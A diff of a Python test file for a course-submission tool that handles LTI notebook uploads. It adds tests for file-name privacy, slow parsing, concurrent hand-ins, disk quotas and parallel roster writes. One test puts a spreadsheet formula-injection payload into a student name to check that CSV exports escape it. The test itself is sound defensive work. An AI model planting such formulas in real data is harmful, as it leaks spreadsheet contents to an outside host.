@@ -2,6 +2,8 @@
 
 import csv
 import datetime
+import json
+import multiprocessing
 import re
 import sqlite3
 
@@ -10,11 +12,13 @@ import nbformat
 import pytest
 import requests
 
+from coursekit.desk import collect
+from coursekit.desk.back import canvas, moodle
 from coursekit.desk.submissions import MOST_BYTES, is_id, time_in
 from coursekit.exercise.model import Exercise
 from coursekit.exercise.starter import make_starter
 from coursekit.lti import handing_in
-from coursekit.lti.roster import LEARNER, Roster
+from coursekit.lti.roster import LEARNER, Person, Roster
 from tests import ROOT
 from tests.lti.platform import CLAIM, Browser
 
@@ -49,7 +53,7 @@ def test_what_is_handed_in_lies_where_the_desk_finds_it(visitor, folder, noteboo
         {
             "student": "Ada-Lovelace_11",
             "name": "Ada Lovelace",
-            "number": "11",
+            "number": "lti:11",
             "late": "",
             "file": NAME,
             "changed": "",
@@ -110,6 +114,98 @@ def test_what_cannot_be_graded_is_refused_at_once(
     assert "Nothing was handed in" in answer.text
     now = {path: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
     assert now == kept
+
+
+def test_no_name_of_a_file_says_whose_it_is(visitor, folder, notebook):
+    """Platforms' names of files tell whose feedback goes to whom."""
+    name = "Grace_7711_assignsubmission_file_/bias.ipynb"
+    visitor.hand_in(visitor.launch("11"), (name, notebook))
+    [row] = collect.collected(folder, "bias")
+    assert row["file"] == NAME
+    assert moodle.feedback_name(row, "bias") is None
+    assert canvas.feedback_name(row, "bias") is None
+
+
+def test_outputs_without_end_are_not_read(visitor, notebook, monkeypatch):
+    """To word what is wrong with 20,000 of them took nbformat 43 seconds."""
+    read, reads = [], nbformat.reads
+
+    def noting(text, *given, **named):
+        read.append(text)
+        return reads(text, *given, **named)
+
+    nb = json.loads(notebook)
+    cell = next(one for one in nb["cells"] if one["cell_type"] == "code")
+    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "x": 1}] * 1_000
+    page = visitor.launch("11")
+    monkeypatch.setattr(nbformat, "reads", noting)
+    answer = visitor.hand_in(page, (NAME, json.dumps(nb).encode()))
+    assert answer.status_code == 200
+    assert not any('"x": 1' in text for text in read)
+
+
+def test_nobody_hands_in_twice_at_once(visitor, notebook, monkeypatch):
+    page, statuses = visitor.launch("11"), []
+    take = handing_in.take
+
+    def meanwhile(*given):
+        again = visitor.hand_in(page, (NAME, notebook))
+        statuses.append((again.status_code, "still being looked at" in again.text))
+        return take(*given)
+
+    monkeypatch.setattr(handing_in, "take", meanwhile)
+    assert visitor.hand_in(page, (NAME, notebook)).status_code == 200
+    assert statuses == [(429, True)]
+    monkeypatch.setattr(handing_in, "take", take)
+    assert visitor.hand_in(page, (NAME, notebook)).status_code == 200
+
+
+def test_a_learner_cannot_fill_the_disk(visitor, folder, notebook, monkeypatch):
+    monkeypatch.setattr(handing_in, "MOST_EARLIER", 2)
+    page = visitor.launch("11")
+    for count in range(3):
+        content = notebook + b"\n" * count
+        assert visitor.hand_in(page, (NAME, content)).status_code == 200
+    more = visitor.hand_in(page, (NAME, notebook + b"\n" * 9))
+    assert more.status_code == 422
+    assert "3 different notebooks" in more.text
+    assert submitted(folder).read_bytes() == content
+    monkeypatch.setattr(handing_in, "MOST_EARLIER", 50)
+    monkeypatch.setattr(handing_in, "MOST_EARLIER_BYTES", len(notebook))
+    assert visitor.hand_in(page, (NAME, notebook + b"\n" * 9)).status_code == 422
+
+
+def test_no_name_becomes_a_formula(platform, visitor, folder, notebook):
+    name = '=HYPERLINK("http://x/?"&A2,"Eve")'
+    platform.alter = lambda claims: claims | {"name": name}
+    visitor.hand_in(visitor.launch("11"), (NAME, notebook))
+    Roster(folder).write_list("bias")
+    for table in ("collected-bias.csv", "roster-bias.csv"):
+        assert rows(folder, table)[0]["name"] == f"'{name}"
+    assert collect.collected(folder, "bias")[0]["name"] == name
+
+
+def hand_in_many(folder, first):
+    """Hand in for 20 learners, in a process of its own."""
+    content = nbformat.writes(make_starter(ROOT / "exercises" / "bias")).encode()
+    now = datetime.datetime(2026, 11, 30, tzinfo=datetime.UTC)
+    for number in range(first, first + 20):
+        person = Person(f"s_{number}", "S", str(number), LEARNER)
+        handing_in.take(folder, "bias", person, content, now)
+
+
+def test_two_programs_lose_nobody_from_the_list(folder, monkeypatch):
+    context = multiprocessing.get_context("fork")
+    both = [
+        context.Process(target=hand_in_many, args=(folder, first)) for first in (0, 20)
+    ]
+    for one in both:
+        one.start()
+    for one in both:
+        one.join()
+    assert [one.exitcode for one in both] == [0, 0]
+    assert len(collect.collected(folder, "bias")) == 40
+    assert not list(folder.glob(".*.csv.*"))
 
 
 def test_no_file_and_a_far_too_large_one_are_told(visitor, folder):
@@ -177,7 +273,7 @@ def test_a_number_of_any_kind_makes_a_folder_of_its_own(
     assert answer.status_code == 200
     [place] = (folder / "submitted").iterdir()
     assert is_id(place.name)
-    assert rows(folder)[0]["number"] == number
+    assert rows(folder)[0]["number"] == f"lti:{number}"
 
 
 def test_nobody_gets_the_folder_of_another(platform, visitor, folder, notebook):
